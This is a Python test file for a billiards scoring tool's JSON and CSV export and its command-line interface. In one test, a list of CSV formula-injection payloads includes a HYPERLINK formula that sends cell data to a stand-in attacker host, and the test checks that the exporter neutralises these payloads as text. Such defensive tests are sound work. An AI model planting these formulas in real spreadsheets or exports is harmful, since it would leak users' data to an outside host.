"""Exports of a live match re-score with ``carom score``; ``carom export`` / ``carom matches``."""

from __future__ import annotations

import csv
import json
from dataclasses import replace
from pathlib import Path

import pytest

from carom.cli import main
from carom.live import (
    CSV_COLUMNS,
    DecisionKind,
    FoulCall,
    LiveSession,
    LiveSetup,
    MatchStore,
    ReviewDecision,
    UndoCall,
    corrections_in_effect,
    result_row,
    shot_log,
)
from carom.live._export import csv_cell, csv_text, write_csv
from referee import Ball, Correction, CorrectionKind, Foul, Phase, record_json
from tests.carom.live.shotpool import (
    NOW,
    SOURCE,
    analyzed,
    example_inputs,
    example_log,
    example_setup,
    lag_shot,
)

ACCEPT = ReviewDecision(DecisionKind.ACCEPT)


def _finished_match(path: Path, *, with_calls: bool = True) -> LiveSession:
    """The example match, with a foul call, an undo and a rejected review on the way."""
    store = MatchStore(path)
    session = LiveSession.open(store, example_setup(), now_iso=NOW)
    for i, shot in enumerate(example_inputs()):
        update = session.submit(shot, video_t_s=float(i), now_iso=NOW)
        if with_calls and i == 3:
            session.call(FoulCall(Foul.TOUCH), who="ref", now_iso=NOW)
            session.call(UndoCall(), who="ref", now_iso=NOW)
            session.call(FoulCall(Foul.MISCUE), who="ref", now_iso=NOW)
        if update.pending is not None:
            session.decide(ACCEPT, who="ref", now_iso=NOW)
    return session


def _score_json(path: Path, capsys: pytest.CaptureFixture[str]) -> dict[str, object]:
    capsys.readouterr()
    assert main(["score", str(path), "--json"]) == 0
    doc: dict[str, object] = json.loads(capsys.readouterr().out)
    return doc


def test_the_exported_shot_log_rescores_to_the_same_match(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    session = _finished_match(tmp_path / "live.db")
    state = session.state
    assert state.phase is Phase.OVER
    doc = shot_log(session)
    assert doc["format"] == "carom-shots/1" and "lag" in doc
    called = [e for s in doc["shots"] for e in s["events"] if e["kind"] == "call"]
    assert [e["foul"] for e in called] == ["miscue", "push"]  # the undone touch is not in effect
    assert any("confidence" in e for s in doc["shots"] for e in s["events"])
    log = tmp_path / "match.json"
    log.write_text(json.dumps(doc))
    scored = _score_json(log, capsys)
    assert scored["shots"] == [record_json(r) for r in session.records]
    assert scored["score"] == {p: state.board(p) for p in state.config.players}
    assert scored["winner"] == state.winner and scored["error"] is None


def test_the_result_line_has_the_usual_columns(tmp_path: Path) -> None:
    session = _finished_match(tmp_path / "live.db", with_calls=False)
    row = result_row(session)
    assert tuple(row) == CSV_COLUMNS
    assert row == {
        "date": "2026-11-29", "discipline": "three-cushion",
        "player_a": "Ana", "points_a": "5", "innings_a": "3", "average_a": "1.666",
        "high_run_a": "2",
        "player_b": "Ben", "points_b": "4", "innings_b": "3", "average_b": "1.333",
        "high_run_b": "2",
        "match_points_a": "2", "match_points_b": "0", "winner": "Ana",
    }  # fmt: skip


def test_cli_export_writes_json_and_appends_csv(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = tmp_path / "live.db"
    session = _finished_match(db)
    out_json, out_csv = tmp_path / "m.json", tmp_path / "results.csv"
    for _ in range(2):
        assert main(["export", str(db), "--json", str(out_json), "--csv", str(out_csv)]) == 0
    said = capsys.readouterr()
    assert said.err == ""
    assert said.out == f"wrote match {session.match_id}: {out_json}, {out_csv}\n" * 2
    assert json.loads(out_json.read_text()) == shot_log(session)
    rows = list(csv.DictReader(out_csv.read_text().splitlines()))
    assert len(rows) == 2 and rows[0] == result_row(session)
    assert main(["export", str(db), "--match", str(session.match_id)]) == 0
    assert json.loads(capsys.readouterr().out)["shots"] == shot_log(session)["shots"]
    assert main(["matches", str(db)]) == 0
    listing = capsys.readouterr().out
    assert (
        f"{session.match_id:>4}" in listing
        and "Ana - Ben  5 - 4  14 shots  finished, Ana" in listing
    )


def test_cli_notes_an_unfinished_match_and_corrections(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = tmp_path / "live.db"
    store = MatchStore(db)
    session = LiveSession.open(store, example_setup(), now_iso=NOW)
    for i, shot in enumerate(example_inputs()[:3]):
        session.submit(shot, video_t_s=float(i), now_iso=NOW)
    session.call(Correction(CorrectionKind.POINTS, "Ben", 1), who="ref", now_iso=NOW)
    assert len(corrections_in_effect(session)) == 1
    store.close()
    assert main(["export", str(db), "--match", str(session.match_id)]) == 0
    err = capsys.readouterr().err
    assert "is not finished" in err and "1 referee correction(s)" in err
    assert main(["matches", str(db)]) == 0
    assert "unfinished" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("args", "problem"),
    [
        (["export", "{tmp}/missing.db"], "no such database"),
        (["matches", "{tmp}/missing.db"], "no such database"),
        (["export", "{db}", "--match", "42"], "no match 42 (matches: 1)"),
        (["export", "{db}"], "no finished match; pass --match ID"),
        (["export", "{notdb}"], "not a carom database"),
        (["export", "{db}", "--match", "1", "--csv", "{tmp}/no/such/dir.csv"], "cannot write"),
    ],
)
def test_cli_errors_are_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], args: list[str], problem: str
) -> None:
    db = tmp_path / "live.db"
    store = MatchStore(db)
    session = LiveSession.open(store, example_setup(), now_iso=NOW)
    session.submit(example_inputs()[0], video_t_s=1.0, now_iso=NOW)
    store.close()
    (tmp_path / "notes.txt").write_text("not a database " * 100)
    names = {"tmp": str(tmp_path), "db": str(db), "notdb": str(tmp_path / "notes.txt")}
    assert main([a.format(**names) for a in args]) == 2
    captured = capsys.readouterr()
    err = captured.err.strip()
    assert problem in err and err.startswith("carom: ") and "\n" not in err
    assert not (tmp_path / "missing.db").exists()


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)",
            "\tTab", "\rCR"]  # fmt: skip


@pytest.mark.parametrize("name", FORMULAS)
def test_a_name_that_starts_a_formula_is_written_as_text(tmp_path: Path, name: str) -> None:
    row = result_row(_finished_match(tmp_path / "live.db", with_calls=False))
    row |= {"player_a": name, "winner": name, "points_b": "-3", "average_b": "-0.5"}
    path = tmp_path / "results.csv"
    write_csv(path, [row])
    write_csv(path, [row])  # appended below the same header
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 2
    for got in rows:
        assert got["player_a"] == got["winner"] == "'" + name  # shown as text, not run
        assert (got["points_b"], got["average_b"]) == ("-3", "-0.5")  # numbers stay numbers
        assert got["player_b"] == "Ben" and got["points_a"] == "5"


def test_only_text_cells_are_neutralised() -> None:
    assert csv_cell("player_c", "-Bob") == "'-Bob"
    assert csv_cell("discipline", "=1") == "'=1"
    assert csv_cell("player_a", "Ana = 1") == "Ana = 1"  # only the first character counts
    for column in ("points_a", "innings_h", "average_b", "high_run_c", "match_points_a"):
        assert csv_cell(column, "-4") == "-4"
    assert csv_text([]) == ",".join(CSV_COLUMNS) + "\n"


@pytest.mark.parametrize("lag_again", [False, True], ids=["no lag", "a lag to play again"])
def test_a_match_joined_without_a_lag_rescores_to_the_same_match(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], lag_again: bool
) -> None:
    """No lag decided and no first player: the first stroke's ball told who was at the
    table. The export says the match was joined (``match.start``), so ``carom score``
    does the same (it stopped at the first shot: "the lag is not decided yet")."""
    log = example_log()
    config = replace(log.match, first_player=None)
    store = MatchStore(tmp_path / "live.db")
    session = LiveSession.open(store, LiveSetup(config, SOURCE), now_iso=NOW)
    if lag_again:
        assert log.lag is not None
        ends = dict(log.lag.end_positions_mm)
        ends[Ball.YELLOW] = (ends[Ball.WHITE][0], ends[Ball.YELLOW][1])  # level: a tie
        session.submit(lag_shot(replace(log.lag, end_positions_mm=ends)), video_t_s=0.0,
                       now_iso=NOW)  # fmt: skip
        assert session.state.phase is Phase.LAG
    for i, shot in enumerate(log.shots[:6]):
        session.submit(analyzed(shot), video_t_s=float(i + 1), now_iso=NOW)
    doc = shot_log(session)
    assert doc["match"]["start"] == {} and "lag" not in doc
    path = tmp_path / "match.json"
    path.write_text(json.dumps(doc))
    scored = _score_json(path, capsys)
    assert scored["error"] is None
    assert scored["shots"] == [record_json(r) for r in session.records]
    assert scored["score"] == {p: session.state.board(p) for p in config.players}


def test_the_listing_says_1_shot(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """It said "1 shots"."""
    store = MatchStore(tmp_path / "live.db")
    s = LiveSession.open(store, example_setup(first_player="Ana"), now_iso=NOW)
    s.submit(example_inputs()[1], video_t_s=1.0, now_iso=NOW)
    assert len(s.records) == 1
    store.close()
    assert main(["matches", str(tmp_path / "live.db")]) == 0
    out = capsys.readouterr().out
    assert "  1 shot  unfinished" in out, out
